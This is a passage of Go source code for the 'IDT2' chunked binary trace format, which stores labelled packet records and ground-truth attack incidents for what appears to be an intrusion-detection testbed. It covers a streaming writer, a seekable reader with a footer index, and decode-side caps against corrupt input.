	"io"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/attack"
	"repro/internal/obs"
	"repro/internal/packet"
	"repro/internal/simtime"
)

const (
	magic2   = 0x49445432 // "IDT2"
	version2 = 2
	// trailerMagic closes the fixed-size trailer that locates the footer.
	trailerMagic = 0x32544449 // "2TDI"

	// DefaultChunkRecords is the writer's records-per-chunk target.
	DefaultChunkRecords = 4096

	blockChunk     = 1
	blockIncidents = 2
	blockFooter    = 3

	// Decode-side hardening caps: a corrupt or adversarial file must fail
	// with an error before it can demand a huge allocation.
	maxBlockLen     = 1 << 26 // 64 MiB per block
	maxChunkRecords = 1 << 17
	maxChunkStrings = 1 << 16
	maxIndexEntries = 1 << 24
	maxIncidents    = 1 << 20

	// bigBlockLen gates the remaining-bytes cross-check: block-length
	// claims at or above it are verified against the source size (when
	// knowable) before the buffer is allocated. Below it, a hostile
	// length costs at most a small allocation and is caught by ReadFull.
	bigBlockLen = 1 << 20

	// minRecordEnc is the smallest possible wire encoding of one chunk
	// record: three 1-byte varints (delta, seq, sent), 16 fixed bytes,
	// and a 1-byte payload length.
	minRecordEnc = 20

	// minIncidentEnc is the smallest possible wire encoding of one
	// incident: two 1-byte string lengths, three 1-byte varints, and 8
	// fixed address bytes.
	minIncidentEnc = 13

	headerFixedLen = 4 + 4 + 2 + 8 // magic, version, profile len, seed (profile bytes vary)
	trailerLen     = 12            // footer offset u64 + trailer magic u32
)

// SniffStream reports whether b begins with the IDT2 stream magic.
func SniffStream(b []byte) bool {
	return len(b) >= 4 && binary.BigEndian.Uint32(b) == magic2
}

// StreamStats are whole-trace summary statistics accumulated by the
// Writer and recovered from the footer by a seekable Reader before any
// chunk decodes. ClusterHosts/ExternalHosts mirror the testbed address
// scheme (10.1.x.x cluster, 203.0.x.x external) so a streaming consumer
// can size its topology without a pre-scan pass over the records.
type StreamStats struct {
	Packets        uint64
	Bytes          uint64
	MaliciousPkts  uint64
	PayloadPackets uint64
	FirstAt        time.Duration
	LastAt         time.Duration
	Chunks         int
	ClusterHosts   int
	ExternalHosts  int
}

// Duration returns the trace's time span.
func (s StreamStats) Duration() time.Duration {
	if s.Packets == 0 {
		return 0
	}
	return s.LastAt - s.FirstAt
}

// ChunkInfo is one footer index entry: where a chunk lives in the file
// and which time range it covers.
type ChunkInfo struct {
	Offset  uint64 // file offset of the chunk's block header
	Records int
	FirstAt time.Duration
	LastAt  time.Duration
}

// hostIndexes mirrors the testbed addressing scheme used by
// eval.RunTraceAccuracy so the footer can carry topology sizing.
func hostIndexes(a packet.Addr) (cluster, external int) {
	o1, o2, o3, o4 := a.Octets()
	idx := int(o3-1)*250 + int(o4-1)
	switch {
	case o1 == 10 && o2 == 1:
		return idx + 1, 0
	case o1 == 203 && o2 == 0:
		return 0, idx + 1
	}
	return 0, 0
}

// ---- Writer ----

// Writer encodes a trace incrementally in the IDT2 format. Records
// accumulate into chunks of ChunkRecords and each full chunk is encoded
// and flushed immediately, so writer memory is O(chunk) regardless of
// capture length. Close writes the final partial chunk, the incident
// sidecar, and the footer index; a Writer that is never Closed produces
// a truncated (sequentially readable, unindexed) stream.
type Writer struct {
	bw  *bufio.Writer
	off uint64 // bytes committed to bw, = next block's file offset

	profile string
	seed    int64

	// ChunkRecords is the records-per-chunk target. It may be set before
	// the first Append; afterwards it is fixed.
	chunkRecords int

	pend      []Record // records of the open chunk (packets borrowed until flush)
	lastAt    time.Duration
	stats     StreamStats
	index     []ChunkInfo
	incidents []attack.Incident

	strIdx map[string]uint64 // per-chunk string table (reset at flush)
	strs   []string
	enc    []byte // reusable chunk encode buffer
	closed bool
	err    error
}

// NewWriter starts an IDT2 stream on w, writing the header immediately.
func NewWriter(w io.Writer, profile string, seed int64) (*Writer, error) {
	if len(profile) > 0xFFFF {
		return nil, fmt.Errorf("trace: profile string too long (%d)", len(profile))
	}
	sw := &Writer{
		bw:           bufio.NewWriterSize(w, 256<<10),
		profile:      profile,
		seed:         seed,
		chunkRecords: DefaultChunkRecords,
		strIdx:       make(map[string]uint64),
	}
	hdr := make([]byte, 0, headerFixedLen+len(profile))
	hdr = binary.BigEndian.AppendUint32(hdr, magic2)
	hdr = binary.BigEndian.AppendUint32(hdr, version2)
	hdr = binary.BigEndian.AppendUint16(hdr, uint16(len(profile)))
	hdr = append(hdr, profile...)
	hdr = binary.BigEndian.AppendUint64(hdr, uint64(seed))
	if _, err := sw.bw.Write(hdr); err != nil {
		return nil, err
	}
	sw.off = uint64(len(hdr))
	return sw, nil
}

// SetChunkRecords overrides the records-per-chunk target. It must be
// called before the first Append; later calls are ignored.
func (w *Writer) SetChunkRecords(n int) {
	if n > 0 && n <= maxChunkRecords && w.stats.Packets == 0 && len(w.pend) == 0 {
		w.chunkRecords = n
	}
}

// SetIncidents attaches the ground-truth sidecar, written at Close.
func (w *Writer) SetIncidents(incs []attack.Incident) { w.incidents = incs }

// Stats returns the running whole-trace statistics.
func (w *Writer) Stats() StreamStats { return w.stats }

// Append adds one record, enforcing time order. The packet (and its
// payload) is borrowed until the chunk holding it flushes; callers must
// not mutate it before then.
func (w *Writer) Append(at time.Duration, p *packet.Packet) error {
	if w.err != nil {
		return w.err
	}
	if w.closed {
		return errors.New("trace: append after Close")
	}
	if at < 0 || p.Sent < 0 {
		return fmt.Errorf("trace: negative time (at=%v sent=%v)", at, p.Sent)
	}
	if w.stats.Packets > 0 && at < w.lastAt {
		return fmt.Errorf("trace: record at %v violates time order (last %v)", at, w.lastAt)
	}
	if w.stats.Packets == 0 {
		w.stats.FirstAt = at
	}
	w.lastAt = at
	w.stats.LastAt = at
	w.stats.Packets++
	w.stats.Bytes += uint64(p.WireLen())
	if p.Truth.Malicious {
		w.stats.MaliciousPkts++
	}
	if len(p.Payload) > 0 {
		w.stats.PayloadPackets++
	}
	for _, a := range [2]packet.Addr{p.Src, p.Dst} {
		c, e := hostIndexes(a)
		if c > w.stats.ClusterHosts {
			w.stats.ClusterHosts = c
		}
		if e > w.stats.ExternalHosts {
			w.stats.ExternalHosts = e
		}
	}
	w.pend = append(w.pend, Record{At: at, Pk: p})
	if len(w.pend) >= w.chunkRecords {
		w.err = w.flushChunk()
	}
	return w.err
}

// internString returns the open chunk's string-table index for s.
func (w *Writer) internString(s string) (uint64, error) {
	if i, ok := w.strIdx[s]; ok {
		return i, nil
	}
	if len(w.strs) >= maxChunkStrings {
		return 0, errors.New("trace: chunk string table overflow")
	}
	i := uint64(len(w.strs))
	w.strIdx[s] = i
	w.strs = append(w.strs, s)
	return i, nil
}

// flushChunk encodes and writes the open chunk.
func (w *Writer) flushChunk() error {
	if len(w.pend) == 0 {
		return nil
	}
	recs := w.pend
	// Build the string table and arena length in one pre-pass.
	w.strs = w.strs[:0]
	for k := range w.strIdx {
		delete(w.strIdx, k)
	}
	var arenaLen uint64
	for _, r := range recs {
		arenaLen += uint64(len(r.Pk.Payload))
		if r.Pk.Truth.Malicious {
			if _, err := w.internString(r.Pk.Truth.AttackID); err != nil {
				return err
			}
			if _, err := w.internString(r.Pk.Truth.Technique); err != nil {
				return err
			}
		}
	}

	buf := w.enc[:0]
	buf = binary.AppendUvarint(buf, uint64(len(recs)))
	base := recs[0].At
	buf = binary.AppendUvarint(buf, uint64(base))
	buf = binary.AppendUvarint(buf, arenaLen)
	buf = binary.AppendUvarint(buf, uint64(len(w.strs)))
	for _, s := range w.strs {
		buf = binary.AppendUvarint(buf, uint64(len(s)))
		buf = append(buf, s...)
	}
	prev := base
	for _, r := range recs {
		p := r.Pk
		buf = binary.AppendUvarint(buf, uint64(r.At-prev))
		prev = r.At
		buf = binary.AppendUvarint(buf, p.Seq)
		buf = binary.AppendUvarint(buf, uint64(p.Sent))
		buf = binary.BigEndian.AppendUint32(buf, uint32(p.Src))
		buf = binary.BigEndian.AppendUint32(buf, uint32(p.Dst))
		buf = binary.BigEndian.AppendUint16(buf, p.SrcPort)
		buf = binary.BigEndian.AppendUint16(buf, p.DstPort)
		buf = append(buf, byte(p.Proto), byte(p.Flags), p.TTL)
		if p.Truth.Malicious {
			buf = append(buf, 1)
			ai, _ := w.strIdx[p.Truth.AttackID]
			ti, _ := w.strIdx[p.Truth.Technique]
			buf = binary.AppendUvarint(buf, ai)
			buf = binary.AppendUvarint(buf, ti)
		} else {
			buf = append(buf, 0)
		}
		buf = binary.AppendUvarint(buf, uint64(len(p.Payload)))
	}
	for _, r := range recs {
		buf = append(buf, r.Pk.Payload...)
	}
	w.enc = buf
	if len(buf) > maxBlockLen {
		return fmt.Errorf("trace: chunk block %d exceeds %d bytes", len(buf), maxBlockLen)
	}

	w.index = append(w.index, ChunkInfo{
		Offset:  w.off,
		Records: len(recs),
		FirstAt: recs[0].At,
		LastAt:  recs[len(recs)-1].At,
	})
	w.stats.Chunks++
	if err := w.writeBlock(blockChunk, buf); err != nil {
		return err
	}
	w.pend = w.pend[:0]
	return nil
}

// writeBlock frames one block and tracks the file offset.
func (w *Writer) writeBlock(typ byte, payload []byte) error {
	var hdr [5]byte
	hdr[0] = typ
	binary.BigEndian.PutUint32(hdr[1:5], uint32(len(payload)))
	if _, err := w.bw.Write(hdr[:]); err != nil {
		return err
	}
	if _, err := w.bw.Write(payload); err != nil {
		return err
	}
	w.off += uint64(len(hdr)) + uint64(len(payload))
	return nil
}

func appendString(buf []byte, s string) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(s)))
	return append(buf, s...)
}

// Close flushes the final partial chunk and writes the incident block,
// the footer index, and the locating trailer.
func (w *Writer) Close() error {
	if w.err != nil {
		return w.err
	}
	if w.closed {
		return nil
	}
	w.closed = true
	if err := w.flushChunk(); err != nil {
		w.err = err
		return err
	}

	// Incident sidecar block.
	incOff := w.off
	buf := w.enc[:0]
	buf = binary.AppendUvarint(buf, uint64(len(w.incidents)))
	for _, in := range w.incidents {
		buf = appendString(buf, in.ID)
		buf = appendString(buf, in.Technique)
		buf = binary.AppendUvarint(buf, uint64(in.Start))
		buf = binary.AppendUvarint(buf, uint64(in.Duration))
		buf = binary.AppendUvarint(buf, uint64(in.Packets))
		buf = binary.BigEndian.AppendUint32(buf, uint32(in.Attacker))
		buf = binary.BigEndian.AppendUint32(buf, uint32(in.Victim))
	}
	w.enc = buf
	if err := w.writeBlock(blockIncidents, buf); err != nil {
		w.err = err
		return err
	}

	// Footer: incidents offset, stats, chunk index.
	footOff := w.off
	buf = w.enc[:0]
	buf = binary.BigEndian.AppendUint64(buf, incOff)
	buf = binary.BigEndian.AppendUint64(buf, w.stats.Packets)
	buf = binary.BigEndian.AppendUint64(buf, w.stats.Bytes)
	buf = binary.BigEndian.AppendUint64(buf, w.stats.MaliciousPkts)
	buf = binary.BigEndian.AppendUint64(buf, w.stats.PayloadPackets)
	buf = binary.BigEndian.AppendUint64(buf, uint64(w.stats.FirstAt))
	buf = binary.BigEndian.AppendUint64(buf, uint64(w.stats.LastAt))
	buf = binary.BigEndian.AppendUint32(buf, uint32(w.stats.ClusterHosts))
	buf = binary.BigEndian.AppendUint32(buf, uint32(w.stats.ExternalHosts))
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(w.index)))
	for _, ci := range w.index {
		buf = binary.BigEndian.AppendUint64(buf, ci.Offset)
		buf = binary.BigEndian.AppendUint32(buf, uint32(ci.Records))
		buf = binary.BigEndian.AppendUint64(buf, uint64(ci.FirstAt))
		buf = binary.BigEndian.AppendUint64(buf, uint64(ci.LastAt))
	}
	w.enc = buf
	if err := w.writeBlock(blockFooter, buf); err != nil {
		w.err = err
		return err
	}
	var trailer [trailerLen]byte
	binary.BigEndian.PutUint64(trailer[0:8], footOff)
	binary.BigEndian.PutUint32(trailer[8:12], trailerMagic)
	if _, err := w.bw.Write(trailer[:]); err != nil {
		w.err = err
		return err
	}
	if err := w.bw.Flush(); err != nil {
		w.err = err
		return err
	}
	return nil
}

// WriteStream serializes the whole trace in the IDT2 format.
func (t *Trace) WriteStream(w io.Writer) error {
	sw, err := NewWriter(w, t.Profile, t.Seed)
	if err != nil {
		return err
	}
	for _, r := range t.Records {
		if err := sw.Append(r.At, r.Pk); err != nil {
			return err
		}
	}
	sw.SetIncidents(t.Incidents)
	return sw.Close()
}

// ---- Reader ----

// Chunk is one decoded group of records. Records[i].Pk points into a
// chunk-owned packet slab and payloads alias the chunk's raw block
// buffer (zero-copy). Release returns the chunk's buffers to the
// reader's freelist; after Release, no packet of the chunk — including
// its payload bytes — may be touched again. A chunk that is never
// Released simply stays live until the GC collects it.
type Chunk struct {
	Records []Record
	pkts    []packet.Packet
	buf     []byte
	owner   *Reader
}

// FirstAt returns the chunk's first record time.
func (c *Chunk) FirstAt() time.Duration { return c.Records[0].At }

// LastAt returns the chunk's last record time.
func (c *Chunk) LastAt() time.Duration { return c.Records[len(c.Records)-1].At }

// Release recycles the chunk's buffers through the owning reader.
func (c *Chunk) Release() {
	if c.owner != nil {
		c.owner.putChunk(c)
	}
}

// Reader streams an IDT2 trace chunk by chunk with O(chunk) memory. On
// an io.ReadSeeker it reads the footer first, making Stats, Incidents,
// and Index available before the first chunk decodes, and enabling
// SeekTo; on a plain io.Reader it scans sequentially and incidents and
// stats become available only once the stream ends.
//
// Concurrency contract: Next must be called from a single goroutine
// (PipelinedReader moves it to a background worker); Release may be
// called from a different goroutine than Next.
type Reader struct {
	br *bufio.Reader
	rs io.ReadSeeker // nil when the source is not seekable
	// base is the stream's start position within rs (footer offsets are
	// stream-relative).
	base int64

	profile string
	seed    int64

	hasFooter bool
	stats     StreamStats
	incidents []attack.Incident
	haveIncs  bool
	index     []ChunkInfo

	// src is the raw source reader, kept so block-length claims can be
	// checked against the source's remaining bytes before allocating.
	src io.Reader

	intern     map[string]string
	strScratch []string
	chunksRead atomic.Int64
	finished   bool
	scratch    []byte

	mu   sync.Mutex
	free []*Chunk

	// Telemetry instruments; nil (free no-ops) unless SetObs is called.
	cChunks, cRecords, cBytes *obs.Counter
	hDecode                   *obs.Histogram
}

// SetObs wires decoder telemetry under "trace.decoder.": chunk, record,
// and byte counters plus a wall-clock per-chunk decode-time histogram.
// Call before the first Next; a nil registry leaves the reader
// uninstrumented at zero cost.
func (r *Reader) SetObs(reg *obs.Registry) {
	if reg == nil {
		return
	}
	r.cChunks = reg.Counter("trace.decoder.chunks")
	r.cRecords = reg.Counter("trace.decoder.records")
	r.cBytes = reg.Counter("trace.decoder.bytes")
	r.hDecode = reg.Histogram("trace.decoder.decode_wall_ns", obs.ClockWall)
}

// NewReader opens an IDT2 stream. The header is consumed immediately;
// if r seeks, the footer index and incident sidecar are loaded up front.
func NewReader(r io.Reader) (*Reader, error) {
	rd := &Reader{src: r, intern: make(map[string]string)}
	if rs, ok := r.(io.ReadSeeker); ok {
		rd.rs = rs
		base, err := rs.Seek(0, io.SeekCurrent)
		if err == nil {
			rd.base = base
		} else {
			rd.rs = nil
		}
	}
	rd.br = bufio.NewReaderSize(r, 256<<10)
	if err := rd.readHeader(); err != nil {
		return nil, err
	}
	if rd.rs != nil {
		if err := rd.loadFooter(); err != nil {
			// Unindexed or truncated stream: fall back to a sequential
			// scan with footer-dependent features disabled.
			rd.stats = StreamStats{}
			rd.index = nil
			rd.hasFooter = false
		}
		// Position after the header for sequential chunk reads.
		hdrLen := int64(headerFixedLen + len(rd.profile))
		if _, err := rd.rs.Seek(rd.base+hdrLen, io.SeekStart); err != nil {
			return nil, err
		}
		rd.br.Reset(rd.rs)
		if !rd.hasFooter {
			rd.rs = nil
		}
	}
	return rd, nil
}

func (r *Reader) readHeader() error {
	var hdr [10]byte
	if _, err := io.ReadFull(r.br, hdr[:]); err != nil {
		return fmt.Errorf("trace: stream header: %w", err)
	}
	if binary.BigEndian.Uint32(hdr[0:4]) != magic2 {
		return errors.New("trace: bad stream magic")
	}
	if v := binary.BigEndian.Uint32(hdr[4:8]); v != version2 {
		return fmt.Errorf("trace: unsupported stream version %d", v)
	}
	plen := int(binary.BigEndian.Uint16(hdr[8:10]))
	pb := make([]byte, plen+8)
	if _, err := io.ReadFull(r.br, pb); err != nil {
		return fmt.Errorf("trace: stream header: %w", err)
	}
	r.profile = string(pb[:plen])
	r.seed = int64(binary.BigEndian.Uint64(pb[plen:]))
	return nil
}

// loadFooter reads the trailer and footer of a seekable stream.
func (r *Reader) loadFooter() error {
	end, err := r.rs.Seek(-trailerLen, io.SeekEnd)
	if err != nil {
		return err
	}
	var tr [trailerLen]byte
	if _, err := io.ReadFull(r.rs, tr[:]); err != nil {
		return err
	}
	if binary.BigEndian.Uint32(tr[8:12]) != trailerMagic {
		return errors.New("trace: no footer trailer")
	}
	footOff := int64(binary.BigEndian.Uint64(tr[0:8]))
	if footOff < 0 || r.base+footOff >= end {
		return errors.New("trace: footer offset out of range")
	}
	typ, payload, err := r.readBlockAt(r.base + footOff)
	if err != nil {
		return err
	}
	if typ != blockFooter {
		return fmt.Errorf("trace: footer block has type %d", typ)
	}
	if len(payload) < 8+6*8+3*4 {
		return errors.New("trace: short footer")
	}
	incOff := int64(binary.BigEndian.Uint64(payload[0:8]))
	p := payload[8:]
	r.stats.Packets = binary.BigEndian.Uint64(p[0:8])
	r.stats.Bytes = binary.BigEndian.Uint64(p[8:16])
	r.stats.MaliciousPkts = binary.BigEndian.Uint64(p[16:24])
	r.stats.PayloadPackets = binary.BigEndian.Uint64(p[24:32])
	r.stats.FirstAt = time.Duration(binary.BigEndian.Uint64(p[32:40]))
	r.stats.LastAt = time.Duration(binary.BigEndian.Uint64(p[40:48]))
	r.stats.ClusterHosts = int(binary.BigEndian.Uint32(p[48:52]))
	r.stats.ExternalHosts = int(binary.BigEndian.Uint32(p[52:56]))
	nchunks := binary.BigEndian.Uint32(p[56:60])
	if nchunks > maxIndexEntries {
		return fmt.Errorf("trace: implausible chunk count %d", nchunks)
	}
	p = p[60:]
	const entryLen = 8 + 4 + 8 + 8
	if uint64(len(p)) != uint64(nchunks)*entryLen {
		return errors.New("trace: footer index length mismatch")
	}
	r.index = make([]ChunkInfo, nchunks)
	for i := range r.index {
		e := p[i*entryLen:]
		r.index[i] = ChunkInfo{
			Offset:  binary.BigEndian.Uint64(e[0:8]),
			Records: int(binary.BigEndian.Uint32(e[8:12])),
			FirstAt: time.Duration(binary.BigEndian.Uint64(e[12:20])),
			LastAt:  time.Duration(binary.BigEndian.Uint64(e[20:28])),
		}
	}
	r.stats.Chunks = len(r.index)
	typ, payload, err = r.readBlockAt(r.base + incOff)
	if err != nil {
		return err
	}
	if typ != blockIncidents {
		return fmt.Errorf("trace: incident block has type %d", typ)
	}
	if err := r.parseIncidents(payload); err != nil {
		return err
	}
	r.hasFooter = true
	return nil
}

// readBlockAt seeks to off and reads one whole block into scratch.
func (r *Reader) readBlockAt(off int64) (byte, []byte, error) {
	if _, err := r.rs.Seek(off, io.SeekStart); err != nil {
		return 0, nil, err
	}
	var hdr [5]byte
	if _, err := io.ReadFull(r.rs, hdr[:]); err != nil {
		return 0, nil, err
	}
	blen := binary.BigEndian.Uint32(hdr[1:5])
	if blen > maxBlockLen {
		return 0, nil, fmt.Errorf("trace: block length %d exceeds limit", blen)
	}
	if blen >= bigBlockLen {
		if end, err := r.rs.Seek(0, io.SeekEnd); err == nil {
			rem := end - (off + 5)
			if _, err := r.rs.Seek(off+5, io.SeekStart); err != nil {
				return 0, nil, err
			}
			if int64(blen) > rem {
				return 0, nil, fmt.Errorf("trace: block length %d exceeds remaining %d bytes", blen, rem)
			}
		}
	}
	if cap(r.scratch) < int(blen) {
		r.scratch = make([]byte, blen)
	}
	buf := r.scratch[:blen]
	if _, err := io.ReadFull(r.rs, buf); err != nil {
		return 0, nil, err
	}
	return hdr[0], buf, nil
}

// Profile returns the trace's generation profile name.
func (r *Reader) Profile() string { return r.profile }

// Seed returns the trace's generation seed.
func (r *Reader) Seed() int64 { return r.seed }

// Stats returns whole-trace statistics and whether they are known yet:
// immediately on an indexed (seekable) stream, after the footer on a
// sequential scan.
func (r *Reader) Stats() (StreamStats, bool) {
	return r.stats, r.hasFooter || r.finished
}

// Incidents returns the ground-truth sidecar, or nil if not yet known.
func (r *Reader) Incidents() []attack.Incident {
	if !r.haveIncs {
		return nil
	}
	return r.incidents
}

// Index returns the chunk index (seekable streams only).
func (r *Reader) Index() []ChunkInfo { return r.index }

// ChunksRead reports how many chunks have been decoded so far.
func (r *Reader) ChunksRead() int { return int(r.chunksRead.Load()) }

// SeekTo repositions the stream so the next chunk returned by Next is
// the first one whose time range ends at or after t. It requires an
// indexed, seekable stream.
func (r *Reader) SeekTo(t time.Duration) error {
	if r.rs == nil || !r.hasFooter {
		return errors.New("trace: SeekTo requires an indexed seekable stream")
	}
	lo, hi := 0, len(r.index)
	for lo < hi {
		mid := (lo + hi) / 2
		if r.index[mid].LastAt < t {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	var off int64
	if lo == len(r.index) {
		// Past the last chunk: position at the incident block so Next
		// returns io.EOF after consuming the tail blocks.
		if len(r.index) == 0 {
			return r.seekStart()
		}
		last := r.index[len(r.index)-1]
		off = r.base + int64(last.Offset)
		// Skip the last chunk entirely.
		if _, err := r.rs.Seek(off, io.SeekStart); err != nil {
			return err
		}
		var hdr [5]byte
		if _, err := io.ReadFull(r.rs, hdr[:]); err != nil {
			return err
		}
		off += 5 + int64(binary.BigEndian.Uint32(hdr[1:5]))
	} else {
		off = r.base + int64(r.index[lo].Offset)
	}
	if _, err := r.rs.Seek(off, io.SeekStart); err != nil {
		return err
	}
	r.br.Reset(r.rs)
	r.finished = false
	return nil
}

func (r *Reader) seekStart() error {
	hdrLen := int64(headerFixedLen + len(r.profile))
	if _, err := r.rs.Seek(r.base+hdrLen, io.SeekStart); err != nil {
		return err
	}
	r.br.Reset(r.rs)
	r.finished = false
	return nil
}

// Next returns the next decoded chunk, or io.EOF at end of trace.
func (r *Reader) Next() (*Chunk, error) {
	if r.finished {
		return nil, io.EOF
	}
	for {
		var hdr [5]byte
		if _, err := io.ReadFull(r.br, hdr[:]); err != nil {
			if err == io.EOF {
				// Unindexed stream that ended cleanly after a block.
				r.finished = true
				return nil, io.EOF
			}
			return nil, fmt.Errorf("trace: block header: %w", err)
		}
		blen := binary.BigEndian.Uint32(hdr[1:5])
		if blen > maxBlockLen {
			return nil, fmt.Errorf("trace: block length %d exceeds limit", blen)
		}
		if blen >= bigBlockLen {
			// A large claimed length is cross-checked against the bytes
			// the source can still produce, so a corrupt length field
			// fails here instead of allocating the claimed size.
			if rem, ok := remainingBytes(r.br, r.src); ok && uint64(blen) > rem {
				return nil, fmt.Errorf("trace: block length %d exceeds remaining %d bytes", blen, rem)
			}
		}
		switch hdr[0] {
		case blockChunk:
			c := r.getChunk(int(blen))
			if _, err := io.ReadFull(r.br, c.buf); err != nil {
				return nil, fmt.Errorf("trace: chunk body: %w", err)
			}
			var t0 time.Time
			if r.hDecode != nil {
				t0 = time.Now()
			}
			if err := r.decodeChunk(c); err != nil {
				return nil, err
			}
			if r.hDecode != nil {
				r.hDecode.Observe(int64(time.Since(t0)))
			}
			r.chunksRead.Add(1)
			r.cChunks.Inc()
			r.cRecords.Add(uint64(len(c.Records)))
			r.cBytes.Add(uint64(blen) + 5)
			return c, nil
		case blockIncidents:
			if cap(r.scratch) < int(blen) {
				r.scratch = make([]byte, blen)
			}
			buf := r.scratch[:blen]
			if _, err := io.ReadFull(r.br, buf); err != nil {
				return nil, fmt.Errorf("trace: incident block: %w", err)
			}
			if !r.haveIncs {
				if err := r.parseIncidents(buf); err != nil {
					return nil, err
				}
			}
		case blockFooter:
			// Terminal block: consume and stop (footer contents were
			// either loaded at open or are only needed for Stats).
			if cap(r.scratch) < int(blen) {
				r.scratch = make([]byte, blen)
			}
			buf := r.scratch[:blen]
			if _, err := io.ReadFull(r.br, buf); err != nil {
				return nil, fmt.Errorf("trace: footer block: %w", err)
			}
			if !r.hasFooter {
				r.parseFooterStats(buf)
			}
			r.finished = true
			return nil, io.EOF
		default:
			return nil, fmt.Errorf("trace: unknown block type %d", hdr[0])
		}
	}
}

// parseFooterStats recovers summary statistics from a sequentially
// scanned footer (best effort; index omitted).
func (r *Reader) parseFooterStats(payload []byte) {
	if len(payload) < 8+6*8+3*4 {
		return
	}
	p := payload[8:]
	r.stats.Packets = binary.BigEndian.Uint64(p[0:8])
	r.stats.Bytes = binary.BigEndian.Uint64(p[8:16])
	r.stats.MaliciousPkts = binary.BigEndian.Uint64(p[16:24])
	r.stats.PayloadPackets = binary.BigEndian.Uint64(p[24:32])
	r.stats.FirstAt = time.Duration(binary.BigEndian.Uint64(p[32:40]))
	r.stats.LastAt = time.Duration(binary.BigEndian.Uint64(p[40:48]))
	r.stats.ClusterHosts = int(binary.BigEndian.Uint32(p[48:52]))
	r.stats.ExternalHosts = int(binary.BigEndian.Uint32(p[52:56]))
	r.stats.Chunks = int(binary.BigEndian.Uint32(p[56:60]))
}

func (r *Reader) parseIncidents(payload []byte) error {
	p := payload
	n, p, err := readUvarint(p)
	if err != nil {
		return fmt.Errorf("trace: incident count: %w", err)
	}
	if n > maxIncidents {
		return fmt.Errorf("trace: implausible incident count %d", n)
	}
	if n*minIncidentEnc > uint64(len(p)) {
		return fmt.Errorf("trace: incident count %d exceeds block capacity (%d bytes)", n, len(p))
	}
	incs := make([]attack.Incident, 0, minU64(n, 4096))
	for i := uint64(0); i < n; i++ {
		var in attack.Incident
		if in.ID, p, err = readString(p); err != nil {
			return fmt.Errorf("trace: incident %d id: %w", i, err)
		}
		if in.Technique, p, err = readString(p); err != nil {
			return fmt.Errorf("trace: incident %d technique: %w", i, err)
		}
		var v uint64
		if v, p, err = readUvarint(p); err != nil {
			return err
		}
		in.Start = time.Duration(v)
		if v, p, err = readUvarint(p); err != nil {
			return err
		}
		in.Duration = time.Duration(v)
		if v, p, err = readUvarint(p); err != nil {
			return err
		}
		in.Packets = int(v)
		if len(p) < 8 {
			return errors.New("trace: truncated incident")
		}
		in.Attacker = packet.Addr(binary.BigEndian.Uint32(p[0:4]))
		in.Victim = packet.Addr(binary.BigEndian.Uint32(p[4:8]))
		p = p[8:]
		incs = append(incs, in)
	}
	r.incidents = incs
	r.haveIncs = true
	return nil
}

// getChunk takes a chunk from the freelist (or allocates one) with a
// buffer of at least blen bytes.
func (r *Reader) getChunk(blen int) *Chunk {
	r.mu.Lock()
	var c *Chunk
	if n := len(r.free); n > 0 {
		c = r.free[n-1]
		r.free[n-1] = nil
		r.free = r.free[:n-1]
	}
	r.mu.Unlock()
	if c == nil {
		c = &Chunk{owner: r}
	}
	if cap(c.buf) < blen {
		c.buf = make([]byte, blen)
	}
	c.buf = c.buf[:blen]
	return c
}

// putChunk returns a chunk's buffers to the freelist (bounded).
func (r *Reader) putChunk(c *Chunk) {
	c.Records = c.Records[:0]
	c.pkts = c.pkts[:0]
	r.mu.Lock()
	if len(r.free) < 4 {
		r.free = append(r.free, c)
	}
	r.mu.Unlock()
}

// decodeChunk parses c.buf in place. Steady-state cost is zero
// allocations per chunk: the packet slab and record slice are recycled
// with the chunk, payloads alias the block buffer, and ground-truth
// strings intern through the reader's table. Decode failures carry the
// chunk's ordinal in the stream and the byte offset within the chunk
// where parsing stopped, so a corrupt capture points at itself.
func (r *Reader) decodeChunk(c *Chunk) error {
	rest, err := r.decodeChunkBody(c)
	if err != nil {
		return fmt.Errorf("trace: chunk %d: byte %d/%d: %w",
			r.chunksRead.Load(), len(c.buf)-len(rest), len(c.buf), err)
	}
	return nil
}

// decodeChunkBody does the parse. On failure it returns the unconsumed
// remainder alongside the error so decodeChunk can report how far it
// got; the remainder is meaningless on success.
func (r *Reader) decodeChunkBody(c *Chunk) ([]byte, error) {
	p := c.buf
	count, p, err := readUvarint(p)
	if err != nil {
		return p, fmt.Errorf("record count: %w", err)
	}
	if count == 0 || count > maxChunkRecords {
		return p, fmt.Errorf("implausible record count %d", count)
	}
	baseU, p, err := readUvarint(p)
	if err != nil {
		return p, fmt.Errorf("base timestamp: %w", err)
	}
	arenaLen, p, err := readUvarint(p)
	if err != nil {
		return p, fmt.Errorf("arena length: %w", err)
	}
	if arenaLen > uint64(len(p)) {
		return p, fmt.Errorf("arena length %d exceeds block", arenaLen)
	}
	nstr, p, err := readUvarint(p)
	if err != nil {
		return p, fmt.Errorf("string table size: %w", err)
	}
	if nstr > maxChunkStrings || nstr > uint64(len(p)) {
		return p, fmt.Errorf("implausible string table size %d", nstr)
	}
	// The string table decodes into a reader-owned scratch slice of
	// interned strings (no allocation for strings seen in prior chunks).
	strs := r.strScratch[:0]
	for i := uint64(0); i < nstr; i++ {
		var b []byte
		b, p, err = readBytes(p)
		if err != nil {
			return p, fmt.Errorf("string table entry %d: %w", i, err)
		}
		s, ok := r.intern[string(b)]
		if !ok {
			s = string(b)
			r.intern[s] = s
		}
		strs = append(strs, s)
	}
	r.strScratch = strs

	// Records region ends where the arena begins. Splitting before the
	// slab allocation lets the record count be checked against the bytes
	// actually present, so a hostile count fails before it can size an
	// allocation.
	if uint64(len(p)) < arenaLen {
		return p, errors.New("truncated chunk")
	}
	arena := p[uint64(len(p))-arenaLen:]
	p = p[:uint64(len(p))-arenaLen]
	if count*minRecordEnc > uint64(len(p)) {
		return p, fmt.Errorf("record count %d exceeds region capacity (%d bytes)", count, len(p))
	}

	n := int(count)
	if cap(c.pkts) < n {
		c.pkts = make([]packet.Packet, n)
	}
	c.pkts = c.pkts[:n]
	if cap(c.Records) < n {
		c.Records = make([]Record, n)
	}
	c.Records = c.Records[:n]

	at := time.Duration(baseU)
	var arenaOff uint64
	for i := 0; i < n; i++ {
		var v uint64
		if v, p, err = readUvarint(p); err != nil {
			return p, fmt.Errorf("record %d delta: %w", i, err)
		}
		if i > 0 {
			at += time.Duration(v)
		} else if v != 0 {
			return p, errors.New("nonzero first delta")
		}
		pk := &c.pkts[i]
